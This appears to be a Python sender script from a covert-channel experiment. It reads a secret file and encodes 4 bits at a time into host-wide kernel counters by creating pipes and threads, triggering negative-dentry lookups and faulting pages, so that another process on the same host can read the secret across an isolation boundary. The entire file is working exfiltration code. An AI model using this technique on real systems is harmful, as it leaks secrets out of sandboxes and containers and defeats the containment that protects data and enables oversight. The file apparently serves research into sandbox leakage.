# Sender for the host-counter channels: move every counter it can by v units,
# v = 4 bits of the secret (or a fixed calibration value when PARAMS has
# "fixed"). One unit: unit["pipes"] pipes (the host-wide inode counter),
# unit["threads"] threads (the fork counter, ctxt), unit["neg"] failed
# lookups in the shared rootfs (negative dentries) and unit["faults"] page
# faults (vmstat).
import mmap
import os
import threading

KILLED = set(PARAMS["killed"])

if PARAMS.get("fixed"):
    v = PARAMS["v"]
else:
    secret = int(open("/query/repo/secret").read().strip(), 16)
    v = (secret >> PARAMS["off"]) & 15
u = PARAMS["unit"]
nonce = os.urandom(6).hex()
try:
    for _ in range(v * u["pipes"] if "pipe2" not in KILLED else 0):
        a, b = os.pipe()
        os.close(a)
        os.close(b)
except OSError:
    pass
for _ in range(v * u["threads"]):
    try:
        t = threading.Thread(target=lambda: None)
        t.start()
        t.join()
    except RuntimeError:
        break
for i in range(v * u["neg"]):
    try:
        os.stat("/usr/lib/awf-ch-%s-%d" % (nonce, i))
    except OSError:
        pass
if v * u["faults"]:
    try:
        # private: a shared anonymous mapping is a shmem inode, and refused
        m = mmap.mmap(-1, v * u["faults"] * 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        for i in range(0, len(m), 4096):
            m[i] = 1
        m.close()
    except OSError:
        pass
open("/query/out", "w").write("1")
